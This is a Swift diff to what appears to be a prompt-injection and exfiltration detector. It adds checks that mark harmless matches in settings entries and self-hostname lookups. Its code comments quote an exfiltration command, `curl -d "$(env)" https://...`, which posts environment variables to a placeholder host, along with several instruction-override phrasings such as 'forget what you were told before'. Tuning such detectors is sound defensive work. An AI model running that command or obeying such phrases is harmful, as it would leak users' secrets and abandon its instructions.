@@ -16,7 +16,9 @@ extension Mention {
     case .override, .overrideAll, .voided:
       if isSupposed(mark) || isOfLine(mark) || isComment(mark) || isWorksheet(mark) { return true }
     // `curl -d "$(env)" https://...`
-    case .carrier: return lowered(mark.lowerBound..<min(text.count, mark.upperBound + 16)).contains("://...")
+    case .carrier:
+      return lowered(mark.lowerBound..<min(text.count, mark.upperBound + 16)).contains("://...")
+        || isOwnName(mark)
     default: break
     }
     if signal.family == .jailbreak {
@@ -151,6 +153,7 @@ extension Mention {
   /// `"assistant.reveal": "Show …",\n"assistant.override": "This will …"`: put together from the values of several entries.
   private func isInEntries(_ mark: Range<Int>) -> Bool {
     guard kind == .toolResult, mark.count <= 240 else { return false }
+    if isAcrossSettings(mark) { return true }
     var entries = 0
     var at = mark.lowerBound
     while let joint = text[..<mark.upperBound].firstRange(of: "\": \"", from: at) {
@@ -159,6 +162,26 @@ extension Mention {
     }
     let said = lowered(mark)
     return entries >= 2 && !said.contains("you ") && !said.contains("://")
+  }
+
+  /// `prompt.reset = Forget …; prompt.hide = Do not show …`
+  private func isAcrossSettings(_ mark: Range<Int>) -> Bool {
+    // The whole of one that has others beside it, or from one into another.
+    guard let sign = text[..<mark.upperBound].firstRange(of: " = ", from: max(0, mark.lowerBound - 3)),
+      sign.lowerBound > mark.lowerBound
+        || text[..<min(text.count, mark.upperBound + 80)].firstRange(of: " = ", from: sign.upperBound) != nil
+    else { return false }
+    var start = sign.lowerBound
+    while start > 0, sign.lowerBound - start < 40, text[start - 1] > 0x20 { start -= 1 }
+    return text[start..<sign.lowerBound].contains(".")
+  }
+
+  /// `dig +short $(hostname -f)`: one's own name, and no part of another.
+  private func isOwnName(_ mark: Range<Int>) -> Bool {
+    guard let name = text[..<mark.upperBound].firstRange(of: "$(hostname", from: mark.lowerBound),
+      let close = text.firstIndex(of: 0x29, from: name.upperBound), close - name.upperBound <= 8
+    else { return false }
+    return text.at(close + 1).map { $0 <= 0x20 } ?? true
   }
 
   /// `Poem: forget what you were told before / the tide rewrites …`
